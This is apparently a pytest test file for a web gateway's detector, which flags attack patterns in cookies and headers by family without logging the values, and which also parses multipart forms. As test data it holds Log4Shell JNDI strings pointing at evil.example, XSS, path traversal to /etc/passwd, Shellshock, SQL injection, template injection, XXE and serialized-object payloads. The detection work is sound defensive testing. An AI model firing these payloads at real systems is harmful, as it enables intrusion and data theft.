"""What never leaves the gateway: the family of a literal mark in it is told, never the value; texts of multipart forms are captured as bodies are."""

import json

import pytest

from tests.infra.gateway_harness.contract import assert_absent
from tests.infra.gateway_harness.harness import Gateway, Json
from tests.infra.test_gateway_policy import NAMED, NORMAL, answer, call, checked, posted, sent


def with_headers(**headers: str) -> Json:
    context = call()
    context["request"]["headers"] |= {name.replace("_", "-"): value for name, value in headers.items()}
    return context


def unbroken(text: str) -> str:
    return text.replace("¦", "")


@pytest.mark.parametrize(
    ("header", "value", "mark"),
    [
        ("Cookie", "a=${jn¦di:ldap://evil.example/a}", "log4j in cookie"),
        ("Cookie", "a=%24%7Bjn¦di%3Aldap%3A%2F%2Fevil.example%7D", "log4j in cookie"),
        ("Cookie", "a=%2524%257Bjn¦di%253Aldap%253A//x%257D", "log4j in cookie"),
        ("Cookie", "a=${${lower:j}n¦di:x}", "log4j in cookie"),
        ("X-Secret-Thing", "${JN¦DI:LDAP://x}", "log4j in header"),
        ("Authorization", "Bearer ${jn¦di:ldap://x}", "log4j in header"),
        ("Cookie", "theme=<scr¦ipt>al¦ert(1)</scr¦ipt>", "script in cookie"),
        ("Cookie", "page=../../../../etc/pas¦swd", "path-traversal in cookie"),
        ("X-Custom", "..%2f..%2fetc%2fhosts", "path-traversal in header"),
        ("Cookie", "session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "deserialisation in cookie"),
        ("Cookie", "a=b; session=gASVIAAAAAAAAACMCGJ1aWx0aW5z", "deserialisation in cookie"),
        ("Cookie", 'u=O:8:"stdClass":0:{}', "deserialisation in cookie"),
        ("X-Custom", "() { :;}; /bin/ba¦sh -c id", "command in header"),
        ("Cookie", "id=1' or '1'='1", "sql in cookie"),
        ("Cookie", "id=1 UN¦ION SEL¦ECT 1", "sql in cookie"),
        ("Cookie", "n={{7*7}}", "template in cookie"),
        ("Cookie", "x=<!ENT¦ITY a>", "xxe in cookie"),
    ],
)
def test_a_mark_names_its_family_and_no_value(gateway: Gateway, header: str, value: str, mark: str) -> None:
    value = unbroken(value)
    outcome = gateway.run(with_headers(**{header.replace("-", "_"): value}), NORMAL, NAMED)
    event = checked(outcome)
    marks = event["marks"].split(",")
    assert mark in marks
    assert len(marks) == len(set(marks)) <= 2
    assert_absent(outcome.events[0], [value])


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("Cookie", "session=abcdef0123456789; theme=dark; consent=%7B%22a%22%3Atrue%2C%22b%22%3A%5B1%2C2%5D%7D"),
        ("Cookie", "_ga=GA1.2.1234567890.1700000000; AWSALB=gAxR0l/abc+def=; token=eyJhbGciOiJIUzI1NiJ9.e30.x"),
        ("Cookie", "next=%2Fhome%2F..%2Fimages; q=R%26D; name=O%27Brien"),
        ("Sec-Ch-Ua", '"Chromium";v="120", "Not=A?Brand";v="24"'),
        ("X-Custom", "select all; union of workers ${name}"),
        ("Accept-Language", "en-US,en;q=0.9"),
    ],
)
def test_honest_cookies_and_headers_have_no_mark(gateway: Gateway, header: str, value: str) -> None:
    assert "marks" not in sent(gateway, with_headers(**{header.replace("-", "_"): value}))


def test_what_is_sent_anyway_is_not_marked(gateway: Gateway) -> None:
    """It is judged whole where it arrives."""
    event = sent(gateway, with_headers(Referer=unbroken("https://a.example/${jn¦di:x}"), User_Agent=unbroken("${jn¦di:x}")))
    assert "marks" not in event


def test_a_mark_at_either_end_of_a_long_value_is_seen_and_hostile_length_is_bounded(gateway: Gateway) -> None:
    mark = unbroken("${jn¦di:ldap://x}")
    assert sent(gateway, with_headers(Cookie="a=" + "x" * 20_000 + mark))["marks"] == "log4j in cookie"
    assert sent(gateway, with_headers(Cookie=f"a={mark}" + "x" * 20_000))["marks"] == "log4j in cookie"
    crowd = {f"X_Crowd_{n}": "%25" * 2_000 for n in range(60)}
    assert "marks" not in sent(gateway, with_headers(**crowd))


FORM = "multipart/form-data; boundary=----b0"


def form(*parts: str) -> str:
    return "".join(f"------b0\r\nContent-Disposition: form-data; {part}\r\n" for part in parts) + "------b0--\r\n"


def test_the_texts_of_a_multipart_form_are_captured(gateway: Gateway) -> None:
    text = form(
        'name="note"\r\n\r\nhello',
        'name="json"\r\nContent-Type: application/json; charset=utf-8\r\n\r\n{"a":1}',
        'name="photo"; filename="../../cat.png"\r\nContent-Type: image/png\r\n\r\nBINARY\x01\x02\x03CONTENT',
        'name="last"\r\n\r\nbye',
    )
    outcome = gateway.run(posted(text, FORM), ("capture", answer(), "emit"), NAMED)
    body = checked(outcome)["requestBody"]
    assert all(kept in body for kept in ("hello", '{"a":1}', 'filename="../../cat.png"', "bye"))
    assert "CONTENT" not in body
    assert outcome.reads[:1] == ["request"]


@pytest.mark.parametrize("kind", ["multipart/form-data", "multipart/form-data; boundary=", "multipart/mixed; boundary=----b0"])
def test_a_form_without_a_boundary_is_none(gateway: Gateway, kind: str) -> None:
    assert "requestBody" not in sent(gateway, posted(form('name="a"\r\n\r\nb'), kind))


@pytest.mark.parametrize(
    "text", ["", "------b0", "------b0\r\n", "------b0--", "no boundary at all", form("x"), "------b0\r\n\r\n\r\n" * 500]
)
def test_odd_forms_break_nothing(gateway: Gateway, text: str) -> None:
    outcome = gateway.run(posted(text, FORM), ("capture", answer(), "emit"), NAMED)
    assert outcome.errors == []
    json.loads(outcome.events[0])
